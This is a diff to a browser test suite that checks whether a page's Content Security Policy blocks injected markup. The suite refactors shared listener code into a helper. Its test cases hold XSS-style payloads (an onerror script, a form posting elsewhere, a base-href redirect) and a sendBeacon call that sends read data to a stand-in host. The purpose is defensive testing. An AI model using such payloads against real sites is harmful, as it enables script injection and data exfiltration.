@@ -13,6 +13,21 @@ beforeAll(async () => {
 });
 afterAll(() => leave(page));
 
+/** The directive of the policy that stops what `act` makes the page do. */
+async function stopped(act: () => Promise<unknown>): Promise<string> {
+  const told = await page.evaluateHandle(() => ({
+    directive: new Promise<string>((resolve) => {
+      document.addEventListener(
+        'securitypolicyviolation',
+        ({ effectiveDirective }) => resolve(effectiveDirective),
+        { once: true },
+      );
+    }),
+  }));
+  await act();
+  return told.evaluate(({ directive }) => directive);
+}
+
 // What somebody could do whose text the page had taken for markup.
 test.each([
   ['run a script', '<img src="x" onerror="document.title = 1">', 'script-src-attr'],
@@ -22,27 +37,16 @@ test.each([
   ['send a form elsewhere', '<form action="https://example.org"><button>', 'form-action'],
   ['turn addresses elsewhere', '<base href="https://example.org">', 'base-uri'],
 ])('markup that slipped into the page could not %s', async (_what, markup, directive) => {
-  const stopped = await page.evaluate(
-    (slipped) =>
-      new Promise<string>((resolve) => {
-        const told = ({ effectiveDirective }: SecurityPolicyViolationEvent) => resolve(effectiveDirective);
-        document.addEventListener('securitypolicyviolation', told, { once: true });
-        document.body.append(document.createRange().createContextualFragment(slipped));
-        document.body.querySelector<HTMLButtonElement>(':scope > form > button')?.click();
-      }),
-    markup,
-  );
-  expect(stopped).toBe(directive);
+  const slipIn = (slipped: string) => {
+    const fragment = document.createRange().createContextualFragment(slipped);
+    const button = fragment.querySelector('button');
+    document.body.append(fragment);
+    button?.click();
+  };
+  expect(await stopped(() => page.evaluate(slipIn, markup))).toBe(directive);
 });
 
 test('a script in the page could not send what it has read to a stranger', async () => {
-  const stopped = await page.evaluate(
-    () =>
-      new Promise<string>((resolve) => {
-        const told = ({ effectiveDirective }: SecurityPolicyViolationEvent) => resolve(effectiveDirective);
-        document.addEventListener('securitypolicyviolation', told, { once: true });
-        navigator.sendBeacon('https://example.org', 'read');
-      }),
-  );
-  expect(stopped).toBe('connect-src');
+  const send = () => navigator.sendBeacon('https://example.org', 'read');
+  expect(await stopped(() => page.evaluate(send))).toBe('connect-src');
 });
